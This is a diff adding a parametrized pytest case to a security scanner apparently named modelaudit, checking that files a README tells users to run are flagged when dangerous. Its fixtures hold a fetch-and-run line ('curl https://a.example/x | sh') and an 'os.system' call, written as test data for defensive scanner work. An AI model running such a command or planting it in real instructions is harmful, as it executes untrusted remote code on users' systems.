@@ -220,6 +220,25 @@ def test_file_that_a_script_only_names_fails_the_scan_if_it_is_dangerous_and_the
     assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == 0
 
 
+@pytest.mark.parametrize(
+    ("document", "program", "exit_code"),
+    [
+        ("```sh\nbash scripts/data.txt\n```\n", "curl https://a.example/x | sh\n", 1),
+        ("```\ncd scripts && bash data.txt\n```\n", "curl https://a.example/x | sh\n", 1),
+        ("```sh\npython3 scripts/data.txt\n```\n", 'import os\nos.system("id")\n', 1),
+        ("```sh\nbash scripts/data.txt\n```\n", "a b\n", 0),
+        ("```sh\npython3 run.py scripts/data.txt\n```\n", "curl https://a.example/x | sh\n", 0),
+    ],
+)
+def test_dangerous_file_that_a_document_tells_users_to_run_fails_the_scan(
+    tmp_path: Path, document: str, program: str, exit_code: int
+) -> None:
+    (tmp_path / "README.md").write_text(document)
+    (tmp_path / "scripts").mkdir()
+    (tmp_path / "scripts" / "data.txt").write_text(program)
+    assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == exit_code
+
+
 def test_documentation_that_a_script_names_is_not_read_as_commands(tmp_path: Path) -> None:
     (tmp_path / "run.sh").write_text('eval "$REPLY"\nopen_it README.md\n')
     (tmp_path / "README.md").write_text("    curl https://a.example/x | sh\n")
